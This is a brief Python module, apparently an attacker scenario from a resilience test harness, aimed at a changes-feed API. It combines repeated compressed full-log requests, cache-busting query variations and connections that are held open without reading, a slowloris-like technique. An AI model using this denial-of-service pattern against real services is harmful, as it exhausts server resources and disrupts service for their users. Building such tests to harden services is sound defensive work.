"""The whole log from its beginning, compressed, again and again; and those who ask for it and do not read."""

import asyncio
import itertools

NUMBER, TITLE, ADDRESSES = 2, "the feed", 5
# Connections of one address that do not read, every other one a stream.
SILENT = 4
COMPRESSED = {"Accept-Encoding": "br"}


async def attack(attacker):
    silent = (does_not_read(attacker, number) for number in range(SILENT))
    await asyncio.gather(loop(attacker), *silent)


def paths(number):
    """The first page under ever other names, so that no copy serves them all."""
    return (f"/v1/changes?since=0&limit={100 + (number * 211 + step) % 900}" for step in itertools.count())


async def loop(attacker):
    line = attacker.line()
    for path, same in zip(paths(attacker.number), itertools.cycle([True, False])):
        await line.ask("/v1/changes?since=0" if same else path, COMPRESSED, patience=120)


async def does_not_read(attacker, number):
    is_stream = number % 2 == 1
    for path in paths(attacker.number * SILENT + number):
        await attacker.hold("/v1/changes/stream?since=0" if is_stream else path)
